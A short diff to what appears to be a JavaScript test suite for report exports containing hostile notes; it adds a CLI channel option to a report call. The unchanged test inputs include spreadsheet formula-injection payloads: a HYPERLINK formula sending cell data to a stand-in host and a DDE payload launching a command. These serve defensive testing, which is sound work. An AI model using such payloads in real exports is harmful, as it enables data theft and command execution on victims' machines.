@@ -14,7 +14,7 @@ describe("report exports with hostile notes", () => {
     await say(fake.engine, "kim", '是，=HYPERLINK("https://x.invalid/?d="&A1,"點我")');
     await say(fake.engine, "kim", "否，+1 | 第一欄\n第二行");
     await say(fake.engine, "kim", "不適用，@SUM(1+1)*cmd|' /C calc'!A0");
-    const built = await fake.engine.report(code, "zh", { userId: "kim" });
+    const built = await fake.engine.report(code, "zh", { channel: "cli", userId: "kim" });
     if (!built) throw new Error("no report");
     report = built;
   });
